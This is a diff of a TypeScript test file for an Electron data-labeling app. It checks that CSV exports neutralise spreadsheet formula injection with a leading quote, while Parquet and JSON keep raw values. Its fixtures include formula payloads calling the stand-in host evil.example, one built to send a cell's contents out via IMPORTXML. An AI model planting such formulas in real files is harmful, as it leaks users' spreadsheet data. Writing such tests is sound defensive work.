@@ -8,10 +8,10 @@ import { DuckDBInstance } from '@duckdb/node-api';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Host } from '../../electron/host/host';
 import { type RunningServer, startServer } from '../../electron/server';
-import type { CallOutcome, LabelExportOutcome, QueryResult } from '../../shared/contract';
+import type { InputOf, MethodName, OutputOf } from '../../shared/contract';
 import type { JobSummary } from '../../shared/jobs';
 import { makeLabelingWorkspace } from './labelingFixture';
-import { call, tempDir } from './support';
+import { call, postCall, postJson, tempDir, unwrap } from './support';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example","x")',
@@ -39,15 +39,13 @@ const SAFE = [
 let host: Host;
 let server: RunningServer;
 
-async function post<T>(method: string, body: unknown, token: string | null = server.token): Promise<T> {
-  const response = await fetch(`http://127.0.0.1:${server.port}/api/${method}`, {
-    method: 'POST',
-    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
-    body: JSON.stringify(body),
-  });
-  const outcome = (await response.json()) as CallOutcome<T>;
-  if (!outcome.ok) throw new Error(outcome.error.message);
-  return outcome.value;
+/** One call over browser-mode HTTP, typed by the contract and unwrapped. */
+async function post<M extends MethodName>(
+  method: M,
+  body: InputOf<M>,
+  token: string | null = server.token,
+): Promise<OutputOf<M>> {
+  return unwrap(await postCall(server, method, body, token));
 }
 
 async function download(file: string): Promise<string> {
@@ -88,18 +86,16 @@ afterAll(async () => {
 describe('CSV written for people', () => {
   it('query results: formula-like text cells get a leading quote, numbers stay numbers, Parquet and JSON keep the raw value', async () => {
     const values = HOSTILE.map((text, i) => `(${i}, ${quote(text)}, ${-5 - i})`);
-    const result = await post<QueryResult>('query.run', {
+    const result = await post('query.run', {
       queryId: 'formulas',
       sql: `SELECT * FROM (VALUES ${values.join(', ')}) t(n, cell, delta) ORDER BY n`,
       pageSize: 0,
     });
     expect(
-      (await post<{ rows: unknown[][] }>('query.page', { resultId: result.resultId, offset: 0, limit: 20 })).rows.map(
-        (row) => row[1],
-      ),
+      (await post('query.page', { resultId: result.resultId!, offset: 0, limit: 20 })).rows.map((row) => row[1]),
     ).toEqual(HOSTILE);
     const exported = async (format: 'csv' | 'parquet' | 'json') => {
-      const { jobId } = await post<{ jobId: string }>('query.export', { resultId: result.resultId, format });
+      const { jobId } = await post('query.export', { resultId: result.resultId!, format });
       const job = (await host.jobs.wait(jobId)) as JobSummary & { result: { path: string } };
       expect(job.status).toBe('done');
       return download(job.result.path);
@@ -127,22 +123,26 @@ describe('CSV written for people', () => {
       strategy: 'random',
       batchSize: 3,
     });
-    const { token } = await post<{ token: string }>('annotators.createToken', { name: 'mallory' });
+    const { token } = await post('annotators.createToken', { name: 'mallory' });
     const note = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
-    await post(
-      'labels.record',
-      {
-        sessionId: session.id,
-        action: { kind: 'label', contentId: 'c03', labels: [{ category: 'spam', value: 0 }], note },
-      },
-      token,
+    // No annotator in the body: an annotator's token names her (the server fills it in), so this body is raw.
+    unwrap(
+      await postJson(
+        server,
+        'labels.record',
+        {
+          sessionId: session.id,
+          action: { kind: 'label', contentId: 'c03', labels: [{ category: 'spam', value: 0 }], note },
+        },
+        token,
+      ),
     );
-    const csv = await post<LabelExportOutcome>('labels.export', { sessionId: session.id, format: 'csv' });
+    const csv = await post('labels.export', { sessionId: session.id, format: 'csv' });
     const rows = await readBack(
       `SELECT annotator_id, note FROM read_csv(${quote(await download(csv.path))}, all_varchar = true, header = true) WHERE note IS NOT NULL`,
     );
     expect(rows).toEqual([['mallory', `'${note}`]]);
-    const trail = await post<LabelExportOutcome>('labels.export', { sessionId: session.id, format: 'ndjson' });
+    const trail = await post('labels.export', { sessionId: session.id, format: 'ndjson' });
     const events = fs
       .readFileSync(trail.path, 'utf8')
       .trim()
